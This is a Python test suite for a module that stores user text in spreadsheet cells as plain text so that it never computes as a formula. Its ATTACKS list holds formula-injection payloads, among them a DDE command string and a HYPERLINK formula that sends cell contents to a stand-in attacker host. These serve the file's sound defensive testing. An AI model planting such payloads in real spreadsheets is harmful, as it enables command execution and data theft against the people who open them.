"""Whatever somebody typed, a cell of ours shows it and computes nothing."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell

from guidance.safe_cells import LONGEST_CELL, begins_like_formula, held, keep_as_text

pytestmark = pytest.mark.pure

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "　＝1",
    "\n=1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
]
HARMLESS = ["", "港", "1-2", "a=b", "'=1", "(-1)", "港 一郎 <a@b.example>", "・A", "ー長音", "2026-11-26"]


def written(text: str) -> tuple[Cell, str]:
    """The cell as it is read back, and the sheet's XML."""
    book = Workbook()
    cell = book.active.cell(1, 1)  # type: ignore[union-attr]
    cell.value = held(text)
    keep_as_text(cell)
    stream = io.BytesIO()
    book.save(stream)
    xml = zipfile.ZipFile(stream).read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(stream).active.cell(1, 1), xml  # type: ignore[union-attr]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_begins_like_a_formula_stays_a_text(text: str) -> None:
    assert begins_like_formula(text)
    cell, xml = written(text)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value.strip() == text.replace("\r", "\n").strip()
    assert "<f>" not in xml


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_not_marked(text: str) -> None:
    assert not begins_like_formula(text)
    cell, _xml = written(text)
    assert not cell.quotePrefix
    assert (cell.value or "") == text


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=200))
def test_no_text_ever_becomes_a_formula_or_breaks_the_file(text: str) -> None:
    cell, xml = written(text)
    assert "<f>" not in xml
    assert cell.value is None or cell.data_type == "s"
    if begins_like_formula(held(text)):
        assert cell.quotePrefix


@given(st.sampled_from("=+-@＝＋－＠"), st.text(max_size=20), st.text(alphabet=" 　\t\n\u200b\ufeff", max_size=4))
def test_the_signs_of_a_formula_are_known_whatever_stands_around_them(sign: str, after: str, before: str) -> None:
    assert begins_like_formula(before + sign + after)


@given(st.text(max_size=60))
def test_nothing_that_a_cell_can_hold_is_taken_away(text: str) -> None:
    kept = held(text).replace("_x005F_", "_")
    storable = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", text)
    assert kept == storable.replace("_x005F_", "_")


def test_signs_that_xml_refuses_are_left_out() -> None:
    assert held("港\x00\x0b\x1f\ufffe\ud800湾\t一\n") == "港湾\t一\n"


def test_what_reads_as_the_code_of_a_sign_is_not_read_so() -> None:
    assert held("_x003D_1+1") == "_x005F_x003D_1+1"
    assert held("a_xyz_") == "a_xyz_"


@pytest.mark.parametrize("sign", ["港", "𠮷"])
def test_a_text_that_is_too_long_is_cut_and_says_so(sign: str) -> None:
    whole = held(sign * 40_000)
    assert len(whole.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert whole.endswith("…")
    assert set(whole) == {sign, "…"}
    exact = sign * (LONGEST_CELL // len(sign.encode("utf-16-le")) * 2)
    assert held(exact) == exact
